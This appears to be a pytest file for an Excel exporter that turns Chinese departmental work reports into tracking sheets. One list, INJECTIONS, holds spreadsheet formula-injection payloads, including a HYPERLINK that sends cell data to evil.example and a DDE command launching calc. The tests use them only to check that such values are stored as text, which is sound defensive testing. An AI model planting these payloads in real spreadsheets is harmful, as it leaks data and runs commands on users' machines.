"""The Excel tracking sheet, read back with openpyxl (and recomputed by LibreOffice)."""

from __future__ import annotations

import csv
import subprocess
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest

from reportexport.config import Settings, XlsxSettings
from reportexport.exporters import ExportOptions, get_exporter
from reportexport.exporters.xlsx import STREAMING_THRESHOLD, use_write_only
from reportexport.exporters.xlsx.cells import display_width, line_count
from reportexport.model import (
    DateRef,
    Department,
    Diagnostic,
    Metric,
    Recognition,
    RecognitionType,
    Report,
    Severity,
    SourceInfo,
    SourceSpan,
    WorkItem,
)
from ..conftest import need_program

LEDGER_HEADERS = [
    "序号", "部门", "事项编号", "事项", "主要内容", "关键数据", "批示/荣誉", "时间",
    "完成状态", "责任人", "备注", "来源", "事项ID",
]
COL = {h: i for i, h in enumerate(LEDGER_HEADERS)}
METRIC_HEADERS = ["部门", "事项", "原文", "数值", "上限", "单位", "限定", "上下文", "事项ID"]
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=cmd|' /C calc'!A0"]


def export(report: Report, path: Path, **options: object) -> Path:
    get_exporter("xlsx").export(report, path, ExportOptions(**options))
    return path


def ledger_rows(path: Path) -> list[tuple]:
    ws = openpyxl.load_workbook(path)["工作台账"]
    return list(ws.iter_rows(values_only=True))


def _item(dep: int, n: int, title: str, body: str, facts: tuple = (), **tracking: str) -> WorkItem:
    return WorkItem(
        id=f"d{dep}-i{n}", number=n, label=f"{n}.", title=title, title_rule="sentence", title_mark="。",
        body=body, text=f"{title}。{body}", facts=facts, span=SourceSpan(first_line=10 * n, last_line=10 * n + 3),
        **tracking,
    )


@pytest.fixture()
def facts_report() -> Report:
    """Items with metric, date and recognition facts, tracking values and a diagnostic."""
    title = "做大做强媒体传播力"
    body = "综合粉丝量超过2000万，营收3.38亿元，增长87%，12月24日获市委主要领导批示肯定。"
    text = f"{title}。{body}"

    def at(raw: str) -> tuple[int, int]:
        start = text.index(raw)
        return start, start + len(raw)

    facts = (
        Metric(raw="2000万", start=at("2000万")[0], end=at("2000万")[1], value=20_000_000, unit="", qualifier="超过"),
        Metric(raw="3.38亿元", start=at("3.38亿元")[0], end=at("3.38亿元")[1], value=338_000_000, unit="元"),
        Metric(raw="87%", start=at("87%")[0], end=at("87%")[1], value=0.87, unit="%"),
        DateRef(raw="12月24日", start=at("12月24日")[0], end=at("12月24日")[1], value="2023-12-24", year_inferred=True),
        Recognition(raw="市委主要领导批示肯定", start=at("市委主要领导批示肯定")[0], end=at("市委主要领导批示肯定")[1],
                    type=RecognitionType.endorsement, by="市委主要领导"),
    )
    range_text = "扶持资金3万元至5万元。"
    ranged = Metric(raw="3万元至5万元", start=4, end=11, value=(30000.0, 50000.0), unit="元")
    return Report(
        title="市直部门（单位）2023年度重点工作开展情况",
        year=2023,
        source=SourceInfo(name="facts.txt", sha256="ab" * 32, encoding="gb18030", layout="newspaper", line_count=40),
        departments=(
            Department(id="d1", number=1, numeral="一", name="潍坊日报社", heading="一、潍坊日报社", items=(
                _item(1, 1, title, body, facts, status="推进中", owner="张三", note="年底前完成"),
                WorkItem(id="d1-i2", number=2, label="2.", title="设立扶持资金", title_rule="sentence",
                         title_mark="。", body=range_text, text="设立扶持资金。" + range_text, facts=(ranged,)),
            )),
        ),
        diagnostics=(
            Diagnostic(severity=Severity.warning, code="column-break-joined", message="第12行的空行位于句中，按分栏处理并接续", line=12, file="facts.txt"),
            Diagnostic(severity=Severity.info, code="page-marker-removed", message="删除版面标记（上接5版）", line=2),
        ),
    )


def injection_report() -> Report:
    items = tuple(
        WorkItem(id=f"d1-i{n}", number=n, label=f"{n}.", title=payload, title_rule="paragraph", text=payload,
                 owner=payload, note=payload)
        for n, payload in enumerate(INJECTIONS, 1)
    )
    return Report(title="注入测试", departments=(Department(id="d1", number=1, numeral="一", name="=部门", items=items),))


# --------------------------------------------------------------------------- registry


def test_registered_as_xlsx() -> None:
    exporter = get_exporter("xlsx")
    assert (exporter.name, exporter.suffix) == ("xlsx", ".xlsx")


# --------------------------------------------------------------------------- 工作台账


def test_sample_has_a_row_per_item_in_source_order(sample_report: Report, tmp_path: Path) -> None:
    rows = ledger_rows(export(sample_report, tmp_path / "s.xlsx"))
    assert list(rows[0]) == LEDGER_HEADERS
    data = rows[1:]
    assert len(data) == sample_report.item_count == 61
    pairs = sample_report.items()
    assert [r[COL["事项ID"]] for r in data] == [item.id for _, item in pairs]
    assert [r[COL["序号"]] for r in data] == list(range(1, 62))
    for row, (dep, item) in zip(data, pairs):
        assert row[COL["部门"]] == dep.display_name
        assert row[COL["事项编号"]] == item.number
        assert row[COL["事项"]] == item.title
        assert row[COL["主要内容"]] == item.text  # nothing lost
        assert row[COL["来源"]] == f"第{item.span.first_line}-{item.span.last_line}行"
    assert data[0][COL["部门"]] == "（续上版）"
    assert {r[COL["部门"]] for r in data} >= {"潍坊日报社", "市社科联"}


def test_facts_and_tracking_values_fill_their_columns(facts_report: Report, tmp_path: Path) -> None:
    row = ledger_rows(export(facts_report, tmp_path / "f.xlsx"))[1]
    assert row[COL["关键数据"]] == "2000万；3.38亿元；87%"
    assert row[COL["批示/荣誉"]] == "市委主要领导批示肯定"
    assert row[COL["时间"]] == "12月24日"
    assert (row[COL["完成状态"]], row[COL["责任人"]], row[COL["备注"]]) == ("推进中", "张三", "年底前完成")


def test_status_drop_down_covers_every_row(sample_report: Report, tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(export(sample_report, tmp_path / "s.xlsx"))
    ws = wb["工作台账"]
    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list"
    assert str(dv.sqref) == "I2:I62"
    assert not dv.showDropDown  # True would HIDE the arrow (inverted OOXML flag)
    assert dv.showErrorMessage and dv.errorStyle == "stop"
    assert "已完成" in dv.error and "下拉列表" in dv.error
    assert dv.formula1 == "'字典'!$A$2:$A$5"
    vocab = wb["字典"]
    assert vocab.sheet_state == "hidden"
    assert [c.value for c in vocab["A"]][1:] == ["已完成", "推进中", "未启动", "滞后"]
    assert ws["I1"].value == "完成状态"


def test_configured_statuses_feed_the_drop_down(tiny_report: Report, tmp_path: Path) -> None:
    statuses = ("已办结", "办理中", "未开始", "逾期", "暂缓", "取消")
    settings = Settings(xlsx=XlsxSettings(statuses=statuses))
    wb = openpyxl.load_workbook(export(tiny_report, tmp_path / "t.xlsx", settings=settings))
    (dv,) = wb["工作台账"].data_validations.dataValidation
    assert dv.formula1 == "'字典'!$A$2:$A$7"
    assert [c.value for c in wb["字典"]["A"]][1:] == list(statuses)
    assert list(next(wb["部门汇总"].iter_rows(values_only=True))) == ["部门", "事项数", *statuses, "未填写", "完成率"]


def test_view_filter_and_print_setup(sample_report: Report, tmp_path: Path) -> None:
    ws = openpyxl.load_workbook(export(sample_report, tmp_path / "s.xlsx"))["工作台账"]
    assert ws.freeze_panes == "E2"  # header row and 序号…事项 stay in view
    assert ws.auto_filter.ref == "A1:M62"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == 9  # A4
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert int(ws.page_setup.fitToWidth) == 1 and int(ws.page_setup.fitToHeight) == 0
    assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text
    assert ws.oddFooter.left.text == sample_report.title
    assert ws.print_area == "'工作台账'!$A$1:$L$62"  # the id column is not printed
    header = ws["A1"]
    assert header.font.b and header.fill.fgColor.rgb.endswith("DDEBF7")
    assert ws["E2"].alignment.wrap_text


def test_widths_fit_chinese_text_and_heights_show_it(sample_report: Report, tmp_path: Path) -> None:
    ws = openpyxl.load_workbook(export(sample_report, tmp_path / "s.xlsx"))["工作台账"]
    widths = {letter: ws.column_dimensions[letter].width for letter in "ABCDEFGHIJKLM"}
    assert all(w and w >= 6 for w in widths.values()), widths
    # 部门 fits the longest department name (2 columns a character) up to its cap
    longest = max(display_width(d.display_name) for d in sample_report.departments)
    assert widths["B"] >= min(14, longest)
    # every data row has a height that holds its longest wrapped cell
    for r in range(2, 63):
        text = ws.cell(r, COL["主要内容"] + 1).value
        needed = line_count(text, widths["E"]) * 14
        assert ws.row_dimensions[r].height >= needed, r


def test_formula_like_text_is_stored_as_text(tmp_path: Path) -> None:
    path = export(injection_report(), tmp_path / "inj.xlsx")
    ws = openpyxl.load_workbook(path)["工作台账"]
    expected = [p.replace("\r", "\n") for p in INJECTIONS]  # CR is normalised to a line feed
    for row, payload in zip(ws.iter_rows(min_row=2), expected):
        for key in ("事项", "主要内容", "责任人", "备注"):
            cell = row[COL[key]]
            assert cell.value == payload and cell.data_type == "s", (key, cell.value)
            assert cell.quotePrefix  # editing the cell in Excel keeps it text
    assert ws.cell(2, 2).value == "=部门" and ws.cell(2, 2).data_type == "s"
    with zipfile.ZipFile(path) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()


def test_control_characters_are_removed(tmp_path: Path) -> None:
    text = "正文\x00含\x0b控制\x1f字符\ud800。"
    item = WorkItem(id="d1-i1", number=1, label="1.", title="标题", title_rule="sentence", title_mark="。",
                    body=text, text="标题。" + text)
    report = Report(title="t", departments=(Department(id="d1", number=1, numeral="一", name="甲", items=(item,)),))
    row = ledger_rows(export(report, tmp_path / "c.xlsx"))[1]
    assert row[COL["主要内容"]] == "标题。正文含控制字符\ufffd。"


# --------------------------------------------------------------------------- 部门汇总 / 关键数据 / 说明


def test_summary_has_live_formulas(sample_report: Report, tmp_path: Path) -> None:
    ws = openpyxl.load_workbook(export(sample_report, tmp_path / "s.xlsx"))["部门汇总"]
    rows = list(ws.iter_rows())
    names = list(dict.fromkeys(d.display_name for d in sample_report.departments))
    assert [r[0].value for r in rows[1:-1]] == names
    assert rows[-1][0].value == "合计"
    assert rows[1][1].data_type == "f" and rows[1][1].value.startswith("=COUNTIFS('工作台账'!$B:$B,$A2")
    assert "'工作台账'!$I:$I,C$1" in rows[1][2].value
    assert rows[-1][1].value == f"=SUM(B2:B{len(names) + 1})"


def test_metrics_sheet_has_numbers(facts_report: Report, tmp_path: Path) -> None:
    ws = openpyxl.load_workbook(export(facts_report, tmp_path / "f.xlsx"))["关键数据"]
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == METRIC_HEADERS
    data = [[c.value for c in r] for r in rows[1:]]
    assert [r[2] for r in data] == ["2000万", "3.38亿元", "87%", "3万元至5万元"]
    assert [r[3] for r in data] == [20_000_000, 338_000_000, 0.87, 30000]
    assert all(r[3].data_type == "n" for r in rows[1:])
    assert data[3][4] == 50000  # the top of a range
    assert data[1][5] == "元" and data[0][6] == "超过"
    assert "3.38亿元" in data[1][7]
    assert rows[3][3].number_format.endswith("%")
    assert data[0][8] == "d1-i1"


def test_metrics_sheet_exists_without_facts(tiny_report: Report, tmp_path: Path) -> None:
    ws = openpyxl.load_workbook(export(tiny_report, tmp_path / "t.xlsx"))["关键数据"]
    assert [list(r) for r in ws.iter_rows(values_only=True)] == [METRIC_HEADERS]


def test_info_sheet_records_source_version_options_diagnostics(facts_report: Report, tmp_path: Path) -> None:
    path = export(facts_report, tmp_path / "f.xlsx", tool_version="9.8.7", brief=True)
    ws = openpyxl.load_workbook(path)["说明"]
    values = {r[0]: r[1] for r in ws.iter_rows(values_only=True) if r and r[0]}
    assert values["源文件"] == "facts.txt"
    assert values["SHA-256"] == "ab" * 32
    assert values["生成工具"] == "reportexport 9.8.7"
    assert values["brief"] == "是" and values["strict"] == "否"
    text = [c for r in ws.iter_rows(values_only=True) for c in r if c]
    assert "第12行的空行位于句中，按分栏处理并接续" in text
    assert "column-break-joined" in text and "page-marker-removed" in text
    assert "读取诊断（共 2 条）" in text


# --------------------------------------------------------------------------- modes and determinism


def all_values(path: Path) -> dict[str, list[tuple]]:
    wb = openpyxl.load_workbook(path)
    return {ws.title: [tuple((c.value, c.data_type) for c in r) for r in ws.iter_rows()] for ws in wb}


def test_write_only_and_normal_mode_give_the_same_cells(sample_report: Report, facts_report: Report, tmp_path: Path) -> None:
    for name, report in (("s", sample_report), ("f", facts_report)):
        normal = all_values(export(report, tmp_path / f"{name}-n.xlsx", write_only=False))
        streamed = all_values(export(report, tmp_path / f"{name}-w.xlsx", write_only=True))
        assert normal == streamed
    wb = openpyxl.load_workbook(tmp_path / "s-w.xlsx")
    ws = wb["工作台账"]
    assert (ws.freeze_panes, ws.auto_filter.ref, str(ws.data_validations.dataValidation[0].sqref)) == ("E2", "A1:M62", "I2:I62")
    assert ws.row_dimensions[2].height and ws.print_title_rows == "$1:$1"


def test_streaming_is_chosen_by_size(tiny_report: Report) -> None:
    assert not use_write_only(tiny_report, ExportOptions())
    assert use_write_only(tiny_report, ExportOptions(write_only=True))
    many = tiny_report.model_copy(update={"departments": tiny_report.departments * (STREAMING_THRESHOLD // 3 + 1)})
    assert many.item_count > STREAMING_THRESHOLD and use_write_only(many, ExportOptions())
    assert not use_write_only(many, ExportOptions(write_only=False))


def test_two_runs_give_identical_bytes(sample_report: Report, tmp_path: Path) -> None:
    for write_only in (False, True):
        a = export(sample_report, tmp_path / f"a{write_only}.xlsx", write_only=write_only).read_bytes()
        b = export(sample_report, tmp_path / f"b{write_only}.xlsx", write_only=write_only).read_bytes()
        assert a == b
    with zipfile.ZipFile(tmp_path / "aFalse.xlsx") as zf:
        assert {i.date_time for i in zf.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        core = zf.read("docProps/core.xml").decode()
    assert "2000-01-01T00:00:00Z</dcterms:created>" in core and "2000-01-01T00:00:00Z</dcterms:modified>" in core


def _big_report(items: int) -> Report:
    deps = []
    for d in range(1, items // 20 + 1):
        rows = tuple(
            _item(d, i, f"第{d}部门第{i}项工作取得明显成效", f"编号{d * 100 + i}的正文内容，" * 20) for i in range(1, 21)
        )
        deps.append(Department(id=f"d{d}", number=d, numeral=str(d), name=f"部门{d}", items=rows))
    return Report(title="大报告", departments=tuple(deps))


@pytest.mark.slow
def test_streaming_memory_stays_flat(tmp_path: Path) -> None:
    export(_big_report(20), tmp_path / "warm.xlsx", write_only=True)  # imports, caches
    peaks = []
    for items in (200, 800):
        report = _big_report(items)
        tracemalloc.start()
        export(report, tmp_path / f"m{items}.xlsx", write_only=True)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert len(ledger_rows(tmp_path / f"m{items}.xlsx")) == items + 1
    small, large = peaks
    assert large < small * 1.3 + 500_000, peaks  # 4x the items, about the same peak


# --------------------------------------------------------------------------- LibreOffice


def soffice_csv(soffice: str, xlsx: Path, sheet_number: int, outdir: Path, profile: Path) -> list[list[str]]:
    """One sheet of ``xlsx`` as CSV, recomputed by LibreOffice (CSV filter token 12 = sheet)."""
    outdir.mkdir(parents=True, exist_ok=True)
    filt = f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,{sheet_number}"
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", filt,
         "--outdir", str(outdir), str(xlsx)],
        check=True, capture_output=True, timeout=180,
    )
    (found,) = outdir.glob(f"{xlsx.stem}*.csv")
    with found.open(encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.client
def test_libreoffice_computes_the_totals(sample_report: Report, tmp_path: Path) -> None:
    soffice = need_program("soffice")
    path = export(sample_report, tmp_path / "s.xlsx")
    rows = soffice_csv(soffice, path, 2, tmp_path / "csv1", tmp_path / "lo")
    header, *body, total = rows
    assert header[:3] == ["部门", "事项数", "已完成"]
    assert total[0] == "合计" and int(total[1]) == 61 and int(total[header.index("未填写")]) == 61
    counts: dict[str, int] = {}
    for dep in sample_report.departments:
        counts[dep.display_name] = counts.get(dep.display_name, 0) + len(dep.items)
    assert {r[0]: int(r[1]) for r in body} == counts

    wb = openpyxl.load_workbook(path)
    ws = wb["工作台账"]
    for row in (2, 10, 40):
        ws.cell(row, COL["完成状态"] + 1).value = "已完成"
    ws.cell(5, COL["完成状态"] + 1).value = "滞后"
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)
    header, *body, total = soffice_csv(soffice, edited, 2, tmp_path / "csv2", tmp_path / "lo")
    assert int(total[header.index("已完成")]) == 3
    assert int(total[header.index("滞后")]) == 1
    assert int(total[header.index("未填写")]) == 57
    assert int(total[1]) == 61


@pytest.mark.client
def test_libreoffice_prints_a_landscape_page_with_the_table(sample_report: Report, tmp_path: Path) -> None:
    soffice = need_program("soffice")
    pdftotext = need_program("pdftotext")
    path = export(sample_report, tmp_path / "s.xlsx")
    subprocess.run(
        [soffice, f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}", "--headless", "--convert-to", "pdf",
         "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=180,
    )
    pdf = tmp_path / "s.pdf"
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert "841.89 x 595.3" in info  # A4 landscape
    page1 = subprocess.run([pdftotext, "-f", "1", "-l", "1", "-layout", str(pdf), "-"],
                           capture_output=True, text=True, check=True).stdout
    for text in ("主要内容", "完成状态", "建设“红色智库”", "第 1 页"):
        assert text in page1
    assert "事项ID" not in page1  # outside the print area
    page2 = subprocess.run([pdftotext, "-f", "2", "-l", "2", "-layout", str(pdf), "-"],
                           capture_output=True, text=True, check=True).stdout
    assert "主要内容" in page2  # the header row repeats


@pytest.mark.client
def test_libreoffice_counts_names_with_wildcards_and_operators(tmp_path: Path) -> None:
    soffice = need_program("soffice")

    def item(dep: int, n: int, status: str | None) -> WorkItem:
        return WorkItem(id=f"d{dep}-i{n}", number=n, label=f"{n}.", title="事项", title_rule="sentence", text="事项",
                        status=status)

    names = ["=部门*", "=部门1", "<5", "a?b~"]
    statuses = [("已完成", None), ("已完成",), ("滞后",), ("推进中", "推进中")]
    deps = tuple(
        Department(id=f"d{d}", number=d, numeral=str(d), name=name, items=tuple(item(d, n, s) for n, s in enumerate(sts, 1)))
        for d, (name, sts) in enumerate(zip(names, statuses), 1)
    )
    path = export(Report(title="通配符", departments=deps), tmp_path / "w.xlsx")
    header, *body, total = soffice_csv(soffice, path, 2, tmp_path / "csv", tmp_path / "lo")
    got = {r[0]: (int(r[1]), int(r[header.index("已完成")])) for r in body}
    assert got == {"=部门*": (2, 1), "=部门1": (1, 1), "<5": (1, 0), "a?b~": (2, 0)}
    assert int(total[1]) == 6 and int(total[header.index("推进中")]) == 2


def test_empty_report_gives_headers_and_zero_totals(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(export(Report(), tmp_path / "e.xlsx"))
    assert [list(r) for r in wb["工作台账"].iter_rows(values_only=True)] == [LEDGER_HEADERS]
    assert wb["工作台账"].data_validations.dataValidation == []
    summary = list(wb["部门汇总"].iter_rows(values_only=True))
    assert summary[-1][0] == "合计" and summary[-1][1] == "=0"


def test_text_longer_than_a_cell_is_kept_whole_in_the_long_text_sheet(tmp_path: Path) -> None:
    from reportexport.api import export
    from reportexport.ingest import parse_text

    body = "".join(f"第{n}段内容，完成任务{n}项。" for n in range(6000))
    report = parse_text(f"一、部门\n1.超长事项。{body}\n2.短事项。正文。\n")
    target = tmp_path / "long.xlsx"
    export(report, "xlsx", target)
    book = openpyxl.load_workbook(target, read_only=True)
    ledger = list(book["工作台账"].iter_rows(values_only=True))
    header = list(ledger[0])
    first = ledger[1][header.index("主要内容")]
    assert len(first) <= 32767 and first.endswith("已截断）")
    pieces = [row for row in list(book["长文本"].iter_rows(values_only=True))[1:]]
    assert [p[0] for p in pieces] == ["d1-i1"] * len(pieces) and len(pieces) >= 2
    assert "".join(p[2] for p in sorted(pieces, key=lambda p: p[1])) == report.departments[0].items[0].text


# --------------------------------------------------------------------------- streaming writer (speed path)

STREAM_VALUES: list[object] = [
    "普通文本", " 前后有空格 ", "", "a & b < c > d \"q\" 'a'", "换行\n第二行\t制表", "😀 astral",
    "=1+1", 0, 7, -3, 1.5, 0.1 + 0.2, 1e20, 12345678901234567, None, True, False,
]


def _sheet_xml(path: Path, member: str = "xl/worksheets/sheet1.xml") -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(member)


def test_streamed_rows_are_the_xml_openpyxl_writes(tmp_path: Path) -> None:
    """Rows written as text equal, byte for byte, the rows openpyxl writes from cells."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    from reportexport.exporters.xlsx import styles
    from reportexport.exporters.xlsx.package import save_deterministic
    from reportexport.exporters.xlsx.sheets import SheetWriter

    def build(streamed: bool) -> Path:
        wb = Workbook(write_only=True)
        styles.register(wb)
        ws = wb.create_sheet("s")
        ws.column_dimensions["A"].width = 20
        out = SheetWriter(ws, True)
        names = [styles.TEXT, styles.NUMBER, styles.CENTER]
        for n, value in enumerate(STREAM_VALUES):
            style, fmt = names[n % 3], ("#,##0" if n % 4 == 0 else None)
            height = 20.25 if n % 2 else None
            if streamed:
                out.values([value, value], [style, styles.MUTED], [fmt, None], height)
            else:  # openpyxl's own cells, styled the same way
                cells = []
                for v, s, f in ((value, style, fmt), (value, styles.MUTED, None)):
                    cell = WriteOnlyCell(ws, value=v)
                    if isinstance(v, str):
                        cell.data_type = "s"
                    cell.style = s
                    if isinstance(v, str) and v.startswith("="):
                        cell.quotePrefix = True
                    if f:
                        cell.number_format = f
                    cells.append(cell)
                if height:
                    ws.row_dimensions[n + 1].height = round(height, 1)
                ws.append(cells)
        formula, total = "=SUM(A1:A3)&\"<>\"", "合计"
        if streamed:
            out.append([out.formula(formula, styles.TOTAL_NUMBER), out.cell(total, styles.TOTAL)], 18.0)
            out.flush()
        else:
            cells = [WriteOnlyCell(ws, value=formula), WriteOnlyCell(ws, value=total)]
            cells[0].style, cells[1].style = styles.TOTAL_NUMBER, styles.TOTAL
            ws.row_dimensions[len(STREAM_VALUES) + 1].height = 18.0
            ws.append(cells)
        path = tmp_path / f"{'streamed' if streamed else 'openpyxl'}.xlsx"
        save_deterministic(wb, path)
        return path

    streamed = build(True)
    # the reference: the same rows through openpyxl, then our formula row also through openpyxl
    reference = build(False)
    assert _sheet_xml(streamed) == _sheet_xml(reference)
    assert _sheet_xml(streamed, "xl/styles.xml") == _sheet_xml(reference, "xl/styles.xml")
    rows = list(openpyxl.load_workbook(streamed)["s"].iter_rows())
    expected = [
        None if v == "" else float(f"{v:.16g}") if isinstance(v, (int, float)) and not isinstance(v, bool) else v
        for v in STREAM_VALUES
    ]
    assert [r[0].value for r in rows[:-1]] == expected  # "" reads back empty; floats as openpyxl writes them
    assert rows[6][0].data_type == "s" and rows[6][0].quotePrefix  # "=1+1" stays text
    assert rows[-1][0].data_type == "f" and rows[-1][0].value == '=SUM(A1:A3)&"<>"'


def test_streamed_file_has_the_same_styles_as_normal_mode(facts_report: Report, tmp_path: Path) -> None:
    """Not only the values: number formats, fonts, fills, borders, alignment, quote prefix, heights."""
    normal = openpyxl.load_workbook(export(facts_report, tmp_path / "n.xlsx", write_only=False))
    streamed = openpyxl.load_workbook(export(facts_report, tmp_path / "w.xlsx", write_only=True))
    for name in normal.sheetnames:
        a, b = normal[name], streamed[name]
        for row_a, row_b in zip(a.iter_rows(), b.iter_rows(), strict=True):
            for x, y in zip(row_a, row_b, strict=True):
                assert (x.value, x.data_type, x.number_format, x.style, x.quotePrefix) == (
                    y.value, y.data_type, y.number_format, y.style, y.quotePrefix), (name, x.coordinate)
                assert [repr(x.font), repr(x.fill), repr(x.border), repr(x.alignment)] == [
                    repr(y.font), repr(y.fill), repr(y.border), repr(y.alignment)], (name, x.coordinate)
        assert {r: d.height for r, d in a.row_dimensions.items()} == {r: d.height for r, d in b.row_dimensions.items()}
        assert {c: d.width for c, d in a.column_dimensions.items()} == {c: d.width for c, d in b.column_dimensions.items()}
    assert normal["关键数据"]["D4"].number_format == streamed["关键数据"]["D4"].number_format != "General"


def test_streaming_keeps_only_a_small_buffer_of_rows(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from reportexport.exporters.xlsx import styles
    from reportexport.exporters.xlsx.package import save_deterministic
    from reportexport.exporters.xlsx.sheets import SheetWriter
    from reportexport.exporters.xlsx.stream import FLUSH_ROWS

    wb = Workbook(write_only=True)
    styles.register(wb)
    ws = wb.create_sheet("s")
    out = SheetWriter(ws, True)
    rows = FLUSH_ROWS * 3 + 5
    for n in range(rows):
        out.values([n, f"第{n}行"], [styles.NUMBER, styles.TEXT], height=18.0)
        assert len(out._stream._buffer) < FLUSH_ROWS
    assert not ws.row_dimensions  # no per-row state is kept
    out.flush()
    save_deterministic(wb, tmp_path / "b.xlsx")
    back = openpyxl.load_workbook(tmp_path / "b.xlsx")["s"]
    assert back.max_row == rows and back.cell(rows, 2).value == f"第{rows - 1}行"
    assert back.row_dimensions[rows].height == 18


def test_cheap_checks_agree_with_the_full_measures() -> None:
    """Width, line and cleaning shortcuts give what the plain definitions give."""
    import random
    import re

    from reportexport.exporters.xlsx.cells import clean_text
    from reportexport.exporters.xlsx.layout import LEDGER_COLUMNS
    from reportexport.exporters.xlsx.sheets import RowHeights, fit_widths, row_height

    wide = re.compile(r"[^\x00-\u00ff\uff61-\uffdc\uffe8-\uffee]")

    def plain_width(text: str) -> int:
        return len(text) + len(wide.findall(text))

    rng = random.Random(7)
    alphabet = "ab1 ，。中文字éｱ＋\n\t\r\x00\x0b\ufffe😀" + "\ud800"
    rows = []
    for _ in range(300):
        values = tuple(
            "".join(rng.choice(alphabet) for _ in range(rng.choice((0, 1, 3, 9, 30, 120)))) if rng.random() < 0.85
            else rng.choice((None, 7, 12.5, 1234567.0))
            for _ in LEDGER_COLUMNS
        )
        rows.append(values)
        for v in values:
            if isinstance(v, str):
                assert display_width(v) == plain_width(v)
                for line in v.split("\n"):
                    assert display_width(line) == plain_width(line)
                slow = re.sub(r"[\ud800-\udfff]", "\ufffd", re.sub(
                    r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]", "", v.replace("\r\n", "\n").replace("\r", "\n")))
                assert clean_text(v) == slow
    widths = fit_widths(LEDGER_COLUMNS, rows)
    heights = RowHeights(widths)
    for values in rows:
        expected = row_height((v, w) for v, w in zip(values, widths) if isinstance(v, str))
        assert heights(values) == expected
    # fit_widths' skips change nothing: compare with measuring every value
    naive = []
    for i, column in enumerate(LEDGER_COLUMNS):
        content = max((max(plain_width(line) for line in (v if isinstance(v, str) else str(v)).split("\n"))
                       for v in (r[i] for r in rows) if v is not None and not isinstance(v, float)), default=0)
        floats = [r[i] for r in rows if isinstance(r[i], float)]
        for f in floats:
            content = max(content, len(f"{int(f):,}" if f.is_integer() else str(f)))
        header = -(-display_width(column.header) // 2) + 3
        naive.append(float(min(column.max_width, max(column.min_width, content + 2, header))))
    assert widths == naive
